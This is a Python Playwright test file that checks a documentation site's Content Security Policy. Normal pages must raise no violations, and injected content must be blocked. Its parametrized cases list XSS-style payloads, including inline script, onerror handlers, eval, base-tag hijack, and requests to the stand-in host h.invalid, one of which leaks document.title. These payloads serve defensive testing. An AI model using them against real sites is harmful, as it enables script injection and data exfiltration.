"""The content security policy in a browser: every page works, and what is put into one does not."""

from __future__ import annotations

from typing import TYPE_CHECKING, Any

import pytest

from tests.browser.waiting import until

if TYPE_CHECKING:
    from collections.abc import Callable

#: Notes what is stopped before a page can do anything.
NOTE = """
window.stopped = [];
addEventListener("securitypolicyviolation", (event) =>
  stopped.push(`${event.effectiveDirective}: ${event.blockedURI || "inline"} ${event.sample}`));
"""
#: One page of each type, and what a reader does there.
PAGES = [
    "index.html",
    "about/volunteers.html",
    "community/partners.html",
    "community/channels.html",
    "community/collaborations.html",
    "community/achievements.html",
    "contribute/status.html",
    "contribute/glossary.html",
    "ecosystem/tokenizers.html",
    "learn/transformers/attention.html",
    "posts/index.html",
    "posts/announcement.html",
    "posts/archive/index.html",
    "reference/checks.html",
    "search.html?q=transformers",
    "hub-records.html",
    "404.html",
]


@pytest.mark.parametrize("language", ["en", "zh-cn"])
def test_nothing_of_a_page_is_stopped(visit_hub: Callable[..., Any], language: str) -> None:
    with visit_hub() as reader:
        reader.page.add_init_script(NOTE)
        for name in PAGES:
            page = reader.go(f"{language}/{name}")
            assert page.locator("meta[http-equiv=Content-Security-Policy]").count() == 1
            # The one script that stands in a page has run: Furo's choice of colours.
            assert page.evaluate("document.body.dataset.theme") in {"auto", "dark", "light"}
            page.locator(".theme-toggle").last.click()
            if not name.startswith("search"):
                page.keyboard.press("Control+k")
                page.locator("dialog input[type=search]").fill("transformers")
                page.locator("dialog .hub-search-results a").first.wait_for()
                page.keyboard.press("Escape")
            page.wait_for_load_state("networkidle")
            assert page.evaluate("stopped") == [], name


def test_the_page_at_the_root_leads_on(visit_hub: Callable[..., Any]) -> None:
    with visit_hub(locale="zh-CN") as reader:
        reader.go("index.html").wait_for_url("**/zh-cn/index.html")


@pytest.mark.parametrize(
    ("directive", "attack"),
    [
        (
            "script-src-elem",
            "const s = document.createElement('script'); s.text = 'hit = 1'; document.body.append(s)",
        ),
        (
            "script-src-attr",
            "document.body.insertAdjacentHTML('beforeend', '<img src=x: onerror=\"hit = 1\" alt>')",
        ),
        ("script-src", "try { eval('hit = 1') } catch {}"),
        (
            "script-src-elem",
            "const s = document.createElement('script'); s.src = '//h.invalid/a.js'; document.body.append(s)",
        ),
        ("img-src", "new Image().src = 'https://h.invalid/?' + document.title"),
        ("connect-src", "fetch('https://h.invalid/').catch(() => {})"),
        (
            "style-src-elem",
            "document.body.insertAdjacentHTML('beforeend', '<style>h1 { color: red }</style>')",
        ),
        ("base-uri", "document.head.insertAdjacentHTML('afterbegin', '<base href=\"https://h.invalid/\">')"),
        (
            "form-action",
            "document.body.insertAdjacentHTML('beforeend', '<form id=f action=\"//h.invalid\">'); f.submit()",
        ),
        ("frame-src", "document.body.insertAdjacentHTML('beforeend', '<iframe src=\"https://h.invalid/\">')"),
        (
            "object-src",
            "document.body.insertAdjacentHTML('beforeend', '<object data=\"https://h.invalid/\">')",
        ),
    ],
)
def test_what_is_put_into_a_page_neither_runs_nor_loads(
    browser: Any, hub_address: str, directive: str, attack: str
) -> None:
    context = browser.new_context(locale="en")
    asked: list[str] = []
    try:
        page = context.new_page()
        page.add_init_script(NOTE)
        # What is stopped is said to have been asked for as well, and why it failed.
        page.on("requestfinished", lambda request: asked.append(request.url))
        page.on("requestfailed", lambda request: asked.append(f"{request.failure} {request.url}"))
        page.goto(f"{hub_address}en/index.html")
        page.evaluate(f"() => {{ setTimeout(() => {{ {attack} }}) }}")
        until(page, "stopped.length")
        assert page.evaluate("stopped[0]").startswith(f"{directive}:")
        assert page.evaluate("window.hit") is None
        assert page.evaluate("document.baseURI").startswith(hub_address)
        assert all(request.startswith(("csp ", hub_address)) for request in asked), asked
    finally:
        context.close()


def test_words_of_scripts_are_translated(visit_hub: Callable[..., Any]) -> None:
    """Sphinx makes a function of a text for this, which the policy does not let happen."""
    with visit_hub() as reader:
        page = reader.go("zh-cn/search.html")
        found = "Search finished, found one page matching the search query."
        assert "搜索完成" in page.evaluate("found => Documentation.ngettext(found, 'more', 2)", found)
        assert page.evaluate("Documentation.LOCALE").startswith("zh")
